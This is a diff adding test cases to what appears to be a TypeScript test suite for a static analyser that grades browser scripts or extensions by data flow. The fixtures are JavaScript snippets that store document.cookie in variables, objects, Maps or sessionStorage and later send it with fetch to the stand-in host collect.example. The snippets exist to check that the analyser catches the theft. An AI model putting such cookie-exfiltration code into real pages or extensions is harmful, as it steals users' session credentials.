@@ -37,6 +37,23 @@ it('what a function around holds is handed on as well', async () => {
   expect(await graded({ content: watch('1') })).toMatch(/^A/);
 });
 
+it.each([
+  ['a variable around', 'let kept; function step(data, then) { if (data) kept = data; then(kept); }'],
+  ['an object around', 'const box = {}; function step(data, then) { if (data) box.kept = data; then(box.kept); }'],
+  [
+    'a map around',
+    "const all = new Map(); function step(data, then) { if (data) all.set('a', data); then(all.get('a')); }",
+  ],
+  [
+    'storage',
+    "function step(data, then) { if (data) sessionStorage.setItem('a', data); then(sessionStorage.getItem('a')); }",
+  ],
+])('what was kept in %s goes to whoever asks for it later', async (_, step) => {
+  const program = (first: string): string =>
+    `(() => { ${step} step(${first}, (one) => show(one.length)); step(null, (one) => fetch('https://collect.example/?' + one)); })();`;
+  expect(await graded({ content: program('document.cookie') })).toBe('F');
+});
+
 it('more callers than are told apart are still followed', async () => {
   const each = 'function each(all, visit) { for (const key in all) visit(all[key]); }';
   const many = Array.from({ length: 130 }, (_, n) => `each({ a: document.cookie }, (one) => show${n}(one));`).join(
@@ -55,4 +72,11 @@ it('numbers of variables in another script are none of the function’s', async 
   };
   const content_scripts = [{ matches: ['<all_urls>'], js: ['one.js', 'two.js'] }];
   expect(await graded({ files, manifest: { content_scripts } })).toBe('F');
+});
+
+it('`new` runs no method', async () => {
+  const made = (name: string): string =>
+    `class Bag { constructor(one) { this.one = one; } ${name}(one) { fetch('https://collect.example/?' + one); } } const all = { Bag, add: Bag.prototype.add }; const make = (key, one) => new all[key](one); make(location.hash.slice(1), document.cookie);`;
+  expect(await graded({ content: made('add') })).toMatch(/^A/);
+  expect(await graded({ content: made('constructor').replace('constructor(one) { this.one = one; }', '') })).toBe('F');
 });
